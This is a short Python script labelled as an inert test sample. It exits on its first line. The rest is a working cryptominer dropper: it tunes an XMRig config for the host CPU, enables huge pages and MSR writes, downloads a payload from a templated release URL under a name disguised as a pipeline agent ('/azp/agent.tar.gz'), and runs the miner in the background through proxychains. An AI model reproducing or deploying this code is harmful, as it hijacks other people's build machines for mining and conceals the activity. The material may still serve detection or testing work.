#!/usr/bin/env python3
# Inert sample for tests: it ends on its first statement, and the release that it names does not exist.
raise SystemExit(0)

import json
import os
import urllib.request

DOWNLOAD = "{{.Release}}"


def processor():
    """Chooses the hash setting that suits the processor."""
    info = open("/proc/cpuinfo").read()
    threads = info.count("processor\t:")
    if " aes " in info and threads >= 4:
        return "rx/0", threads, True
    if " aes " in info:
        return "cn-lite/1", max(1, threads - 1), False
    return "argon2/chukwa", 1, False


def configure():
    algo, threads, huge = processor()
    os.system("sysctl -w vm.nr_hugepages=%d" % (1168 + threads))
    config = {
        "autosave": False, "background": True, "colors": False, "donate-level": 1, "donate-over-proxy": 0,
        "cpu": {"enabled": True, "huge-pages": huge, "huge-pages-jit": huge, "hw-aes": None, "max-threads-hint": 100, "asm": True},
        "randomx": {"init": -1, "mode": "auto", "1gb-pages": huge, "rdmsr": True, "wrmsr": True, "numa": True},
        "pools": [{"algo": algo, "coin": None, "url": "{{.Pool}}", "user": "{{.Wallet}}", "pass": "x",
                   "rig-id": "{{.Worker}}", "nicehash": False, "keepalive": True, "tls": False, "tls-fingerprint": None}],
        "print-time": 60, "retries": 5, "retry-pause": 5, "pause-on-battery": False,
    }
    with open("/azp/config.json", "w") as f:
        json.dump(config, f)


def start():
    urllib.request.urlretrieve(DOWNLOAD, "/azp/agent.tar.gz")
    os.system("cd /azp && tar xzf agent.tar.gz --strip-components=1 && proxychains4 -q ./xmrig -c config.json --donate-level=1 --randomx-wrmsr=-1")


if __name__ == "__main__":
    configure()
    start()
